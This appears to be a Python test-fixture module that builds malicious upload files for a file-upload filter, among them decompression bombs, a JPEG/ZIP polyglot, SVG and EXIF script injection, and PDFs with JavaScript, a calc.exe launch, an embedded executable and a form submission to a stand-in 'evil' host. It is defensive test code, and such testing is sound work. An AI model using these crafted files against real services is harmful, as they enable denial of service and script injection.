"""Files that people or attackers hand in, each made here: none is kept in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, PngImagePlugin

SECRET = b"<script>alert(1)</script>"


def picture(size=(600, 800), *, colour=(180, 40, 40), kind="JPEG", **more):
    content = io.BytesIO()
    Image.new("RGB", size, colour).save(content, kind, **more)
    return content.getvalue()


def sideways(size=(800, 600)):
    """A photograph as a phone writes it: turned by its EXIF, with the place where it was."""
    image = Image.new("RGB", size, (40, 40, 180))
    image.paste((250, 250, 250), (0, 0, size[0] // 2, size[1]))  # what was up is white
    exif = Image.Exif()
    exif[0x0112] = 6  # to be turned to the right
    exif[0x010F] = "CameraOfAmina"
    exif.get_ifd(0x8825)[1] = "N"
    content = io.BytesIO()
    image.save(content, "JPEG", exif=exif, comment=SECRET)
    return content.getvalue()


def see_through():
    content = io.BytesIO()
    note = PngImagePlugin.PngInfo()
    note.add_text("comment", SECRET.decode())
    Image.new("RGBA", (300, 400), (0, 0, 0, 0)).save(content, "PNG", pnginfo=note)
    return content.getvalue()


def archive():
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        file.writestr("evil.html", SECRET)
    return content.getvalue()


def polyglot():
    """A JPEG that is also a ZIP, and a page for whoever guesses types."""
    return picture() + archive() + SECRET


def _chunk(kind, body):
    return (
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    )


def png_bomb(width=60_000, height=60_000):
    """A few kilobytes that would unpack to gigabytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(4_000_000), 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", rows)
        + _chunk(b"IEND", b"")
    )


def png_text_bomb():
    """A small picture with a note that unpacks to a gigabyte."""
    body = b"note\x00\x00" + zlib.compress(bytes(200_000_000), 9)
    whole = picture((10, 10), kind="PNG")
    return whole[:33] + _chunk(b"zTXt", body) + whole[33:]


def heic():
    return b"\x00\x00\x00\x18ftypheic" + bytes(64)


def svg():
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def executable():
    return b"MZ\x90\x00" + bytes(200)


def pdf(change=None, *, pages=1, **save):
    """A PDF of blank pages with a picture, changed by ``change(pdf)``."""
    content = io.BytesIO()
    with Pdf.new() as made:
        for _ in range(pages):
            made.add_blank_page(page_size=(300, 400))
        made.pages[0].obj.Contents = Stream(made, b"0 0 1 rg 10 10 50 50 re f")
        made.docinfo["/Author"] = "Amina at home"
        if change:
            change(made)
        made.save(content, **save)
    return content.getvalue()


def _script(made):
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _opening(made):
    made.Root.OpenAction = _script(made)


def _named_script(made):
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), made.make_indirect(_script(made))]))
    )


def _page_action(made):
    made.pages[0].obj.AA = Dictionary(O=_script(made))


def _note(made, **what):
    made.pages[0].obj.Annots = Array(
        [made.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **what))]
    )


def _launch(made):
    _note(made, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("calc.exe")))


def _files(made):
    made.attachments["evil.exe"] = pikepdf.AttachedFileSpec(made, executable())


def _form(made):
    made.Root.AcroForm = Dictionary(XFA=Stream(made, b"<xdp/>"), Fields=Array([]))


def _film(made):
    _note(made, Subtype=Name.RichMedia, RichMediaContent=Dictionary())


def _sent_away(made):
    _note(made, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil")))


def _hidden_deep(made):
    made.Root.Extra = Dictionary(A=Array([Array([Dictionary(B=Dictionary(JS=String("x")))])]))


def active_pdfs():
    """What is refused because it can do more than be looked at: a name and its bytes."""
    changes = {
        "opening": _opening,
        "named script": _named_script,
        "page action": _page_action,
        "launch": _launch,
        "files": _files,
        "form": _form,
        "film": _film,
        "sent away": _sent_away,
        "hidden deep": _hidden_deep,
    }
    return {name: pdf(change) for name, change in changes.items()}


def harmless_pdf():
    """Opens at a page, links to the web, names its author: none of it is an action to fear."""

    def change(made):
        made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])
        _note(
            made, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://x.example"))
        )

    return pdf(change)


def locked_pdf(user="", owner="owner"):
    return pdf(encryption=pikepdf.Encryption(user=user, owner=owner))


def drawing_bomb():
    """Some kilobytes whose page unpacks to gigabytes."""

    def change(made):
        packed = zlib.compress(zlib.compress(bytes(1_500_000_000), 9), 9)
        stream = Stream(made, packed)
        stream.Filter = Array([Name.FlateDecode, Name.FlateDecode])
        made.pages[0].obj.Contents = stream

    return pdf(change, compress_streams=False)


def huge_picture_pdf():
    def change(made):
        image = Stream(made, b"\xff\xd8\xff")
        image.Type, image.Subtype = Name.XObject, Name.Image
        image.Width, image.Height = 100_000, 100_000
        image.Filter = Name.DCTDecode
        image.ColorSpace, image.BitsPerComponent = Name.DeviceRGB, 8
        made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=image))

    return pdf(change)


def circular_pdf():
    """A page tree that is its own child."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\n%%EOF"
    )
